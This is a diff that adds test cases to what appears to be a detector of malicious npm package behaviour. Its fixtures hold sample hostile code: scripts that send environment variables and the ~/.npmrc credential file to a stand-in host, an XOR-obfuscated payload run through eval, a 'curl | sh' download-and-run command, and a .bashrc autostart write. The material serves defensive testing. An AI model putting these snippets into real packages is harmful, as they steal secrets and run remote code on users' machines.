@@ -56,6 +56,67 @@ describe('what code does', () => {
     });
   }
 
+  for (const [way, code] of Object.entries(WAYS)) {
+    it(`is seen through ${way} in a function that only users of the package call`, () => {
+      const flows = flowsIn(analyseIndex(`exports.run = function () { ${code} };`));
+      assert.ok(flows.includes('environment>network@collect.invalid call'), flows.join('; '));
+    });
+  }
+
+  it('is seen where functions that only users call share the work, however deep', () => {
+    const files = {
+      'index.js': `const { collect } = require('./collect.js'); const { Sender } = require('./sender.js');
+        const pack = (what) => ({ body: what });
+        function prepare(from) { return pack(from()); }
+        exports.run = async function run() { await new Sender('https://collect.invalid').send(prepare(collect)); };`,
+      'collect.js': `const all = () => ({ ...process.env }); exports.collect = () => JSON.stringify(all());`,
+      'sender.js': `class Sender { constructor(to) { this.to = to; } post(what) { return fetch(this.to, { method: 'POST', ...what }); }
+        send(what) { return this.post(what); } } exports.Sender = Sender;`,
+    };
+    assert.deepEqual(flowsIn(analyse(files)), ['environment>network@collect.invalid call']);
+  });
+
+  it('is seen where a function that only users call decodes with another one and runs what comes out', () => {
+    const payload = Buffer.from(
+      `fetch('https://collect.invalid', { method: 'POST', body: JSON.stringify(process.env) })`,
+    );
+    const numbers = [...payload].map((byte) => byte ^ 7).join(',');
+    const code = `const numbers = [${numbers}]; function decode() { return numbers.map((n) => String.fromCharCode(n ^ 7)).join(''); }
+      function open(text) { return (0, eval)(text); } exports.run = () => { open(decode()); };`;
+    const flows = flowsIn(analyseIndex(code));
+    assert.ok(flows.includes('environment>network@collect.invalid call'), flows.join('; '));
+  });
+
+  it('is seen where a caller says which file is read, which command runs or which file is written', () => {
+    const code = `const fs = require('fs'), cp = require('child_process'), home = require('os').homedir();
+      const read = (name) => fs.readFileSync(home + '/' + name, 'utf8'); const run = (command) => cp.execSync(command);
+      const write = (name, text) => fs.appendFileSync(home + '/' + name, text);
+      exports.a = () => fetch('https://collect.invalid', { method: 'POST', body: read('.npmrc') });
+      exports.b = () => run('curl -s https://load.invalid/x.sh | sh'); exports.c = () => write('.bashrc', 'x &');`;
+    const facts = analyseIndex(code);
+    assert.deepEqual(flowsIn(facts), ['credential-file>network@collect.invalid call']);
+    assert.deepEqual([...kindsIn(facts)].sort(), ['autostart call', 'download-and-run call']);
+  });
+
+  it('is followed to its end past recursion over what is not known, and past generators that never end', () => {
+    const theft = `fetch('https://collect.invalid', { method: 'POST', body: JSON.stringify(process.env) });`;
+    const code = `const fs = require('fs'), path = require('path');
+      function clear(dir) { for (const one of fs.readdirSync(dir)) { const at = path.join(dir, one);
+        if (fs.statSync(at).isDirectory()) clear(at); else if (at.length > 3) clear(dir + '/x'); } }
+      clear('/tmp/a'); function* colours() { while (true) for (const one of ['red', 'blue']) yield one; }
+      colours().next().value.trim(); ${theft}`;
+    const facts = analyseIndex(code);
+    assert.deepEqual(flowsIn(facts), SENT);
+    assert.deepEqual(facts.incomplete, []);
+  });
+
+  it('is followed where things are called like the parts that every object has', () => {
+    const facts = analyseIndex(
+      `const c = require('constructor'); exports.run = (x) => c.name.toString(x).valueOf.hasOwnProperty;`,
+    );
+    assert.deepEqual(facts.incomplete, []);
+  });
+
   it('is seen where it is put together out of several files, of either kind of module', () => {
     const files = {
       'package.json': JSON.stringify({ main: './lib/index.mjs', imports: { '#out': './lib/out.cjs' } }),
